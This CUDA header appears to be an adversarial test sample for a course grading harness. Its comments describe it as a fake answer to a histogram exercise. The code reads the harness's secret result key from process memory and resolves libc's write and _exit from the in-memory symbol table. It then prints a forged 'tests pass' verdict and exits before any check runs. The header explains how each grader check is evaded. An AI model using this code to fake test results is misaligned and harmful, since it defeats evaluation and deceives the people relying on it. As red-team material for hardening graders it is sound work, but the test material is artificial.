// A wrong answer to exercise 1 (lesson 01), written by an attacking reviewer and kept in unseen/
// until the objects check read the instructions: the calls it makes through the addresses it
// computes (libc's write and _exit) are calls through a computed address, which the model
// answer's same function never makes.
// expect: objects: through a computed address
// ATTACK key_theft_exec (exercise 01.1, per_warp_histogram): full marks without a histogram.
// What it tries: host code of the answer runs inside the harness's launch (a converting constructor
// of the kernel's first parameter type). It finds the run's result key in the test program's own
// memory (test_main.cpp's g_key, a std::string in .bss: scanned forward from a variable of the
// answer's, which the linker places before it), finds libc's write and _exit by reading libc's
// dynamic symbol table in memory (from memcpy's address, a call every answer may make), prints a
// keyed COURSE-TIME line and a keyed "tests pass" verdict with write(1, ...) and ends the process
// with _exit(0) before any check can fail.
// Checks it expects to get past: the answer check (no macro, no include beyond <cstddef>,
// <cstdint>, <cstring>; no forbidden name: write and _exit are only strings), the preprocessed
// check (working tree, same reason), the objects check (every call it makes is an indirect call
// through a computed pointer: no relocation names write or _exit; memcpy is in BASE_CALLS), the
// compiled-code check (the kernel holds atom.shared.add, red.global.add.u64, bar.sync), every
// test case (each process prints its own pass and exits 0 at the first launch) and the time
// bound (the answer's timed run reports 0.0010 ms).
#pragma once

#include <cstddef>
#include <cstdint>
#include <cstring>

namespace exercise01 {

constexpr int kBins = 256;
constexpr int kThreads = 256;
constexpr int kWarpsPerBlock = kThreads / 32;

namespace detail {

using u8 = unsigned char;
using u64 = unsigned long long;

// An initialized variable of the answer's: in the program's .data, before test_main.cpp's. Its
// address goes through a volatile, so that the compiler knows nothing of where the scan reads.
u64 anchor[2] = {0x5eed5eed5eed5eedULL, 0x0123456789abcdefULL};
inline const u8* anchor_address() {
  volatile u64 address = reinterpret_cast<u64>(&anchor[0]);
  return reinterpret_cast<const u8*>(static_cast<u64>(address));
}

inline u64 load64(const u8* p) {
  u64 v;
  std::memcpy(&v, p, sizeof v);
  return v;
}
inline unsigned load32(const u8* p) {
  unsigned v;
  std::memcpy(&v, p, sizeof v);
  return v;
}
inline unsigned short load16(const u8* p) {
  unsigned short v;
  std::memcpy(&v, p, sizeof v);
  return v;
}
inline bool hex_digit(u8 c) {
  return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f');
}

// test_main.cpp's g_key: a std::string {char* p; size_t size; size_t capacity or 16 bytes}
// whose p holds 32 lowercase hex digits and a NUL.
inline const u8* find_key() {
  const u8* start = anchor_address();
  const u64 lo = reinterpret_cast<u64>(start);
  for (u64 at = 0; at < (u64(512) << 20); at += 8) {
    const u8* s = start + at;
    if (load64(s + 8) != 32) continue;
    const u64 p = load64(s);
    const u64 capacity = load64(s + 16);
    if (p == reinterpret_cast<u64>(s + 16) || capacity < 32 || capacity > 64) continue;
    if (p % 16 != 0 || p < lo || p > lo + (u64(1) << 34)) continue;
    const u8* text = reinterpret_cast<const u8*>(p);
    bool hex = true;
    for (int i = 0; i < 32 && hex; ++i)
      hex = hex_digit(text[i]);
    if (hex && text[32] == 0) return text;
  }
  return nullptr;
}

inline bool same(const u8* a, const char* b) {
  for (; *b; ++a, ++b)
    if (*a != static_cast<u8>(*b)) return false;
  return *a == 0;
}

// A function of the shared object that holds `inside`, by name, from its dynamic symbol table.
inline u64 resolve(const u8* inside, const char* name) {
  u64 page = reinterpret_cast<u64>(inside) & ~u64(4095);
  const u8* base = nullptr;
  for (int i = 0; i < (1 << 16); ++i, page -= 4096) {
    const u8* h = reinterpret_cast<const u8*>(page);
    if (h[0] == 0x7f && h[1] == 'E' && h[2] == 'L' && h[3] == 'F') {
      base = h;
      break;
    }
  }
  if (base == nullptr) return 0;
  const u64 b = reinterpret_cast<u64>(base);
  const u64 phoff = load64(base + 32);
  const unsigned phentsize = load16(base + 54);
  const unsigned phnum = load16(base + 56);
  const u8* dyn = nullptr;
  for (unsigned i = 0; i < phnum; ++i) {
    const u8* ph = base + phoff + u64(i) * phentsize;
    if (load32(ph) == 2) dyn = base + load64(ph + 16);  // PT_DYNAMIC, p_vaddr
  }
  if (dyn == nullptr) return 0;
  u64 strtab = 0, symtab = 0;
  for (; load64(dyn) != 0; dyn += 16) {
    const u64 tag = load64(dyn), value = load64(dyn + 8);
    if (tag == 5) strtab = value < b ? value + b : value;  // DT_STRTAB
    if (tag == 6) symtab = value < b ? value + b : value;  // DT_SYMTAB
  }
  if (strtab == 0 || symtab == 0) return 0;
  const u64 count = strtab > symtab ? (strtab - symtab) / 24 : 20000;
  for (u64 i = 1; i < count; ++i) {
    const u8* sym = reinterpret_cast<const u8*>(symtab + 24 * i);
    const u64 value = load64(sym + 8);
    if (value != 0 && same(reinterpret_cast<const u8*>(strtab + load32(sym)), name))
      return b + value;
  }
  return 0;
}

inline void take_the_marks() {
  const u8* key = find_key();
  if (key == nullptr) return;
  const u8* libc = reinterpret_cast<const u8*>(&std::memcpy);
  using Write = long (*)(int, const char*, unsigned long);
  using End = void (*)(int);
  const u64 w = resolve(libc, "write");
  const u64 e = resolve(libc, "_exit");
  if (w == 0 || e == 0) return;
  char line[256];
  unsigned long n = 0;
  const auto put = [&](const char* text) {
    while (*text)
      line[n++] = *text++;
  };
  const auto put_key = [&] {
    for (int i = 0; i < 32; ++i)
      line[n++] = static_cast<char>(key[i]);
  };
  put("\nCOURSE-TIME ");
  put_key();
  put(" 0.0010 ms\nCOURSE-VERDICT ");
  put_key();
  put(" {\"check\": \"tests\", \"pass\": true, \"seed\": 1}\n");
  reinterpret_cast<Write>(w)(1, line, n);
  reinterpret_cast<End>(e)(0);
}

}  // namespace detail

// The kernel's first parameter: made on the host from the harness's pointer, at every launch.
struct Bytes {
  const std::uint8_t* p;
  __host__ Bytes(const std::uint8_t* q) : p(q) { detail::take_the_marks(); }
};

// Holds what the compiled-code check asks for; counts nothing right.
__global__ void per_warp_histogram_kernel(Bytes data, std::size_t n, unsigned long long* bins) {
  __shared__ unsigned int counts[kWarpsPerBlock * kBins];
  for (int i = threadIdx.x; i < kWarpsPerBlock * kBins; i += blockDim.x)
    counts[i] = 0;
  __syncthreads();
  if (n > 0 && threadIdx.x == 0) atomicAdd(&counts[data.p[0]], 1u);
  __syncthreads();
  if (threadIdx.x == 0 && counts[0] != 0)
    atomicAdd(&bins[0], static_cast<unsigned long long>(counts[0]));
}

}  // namespace exercise01
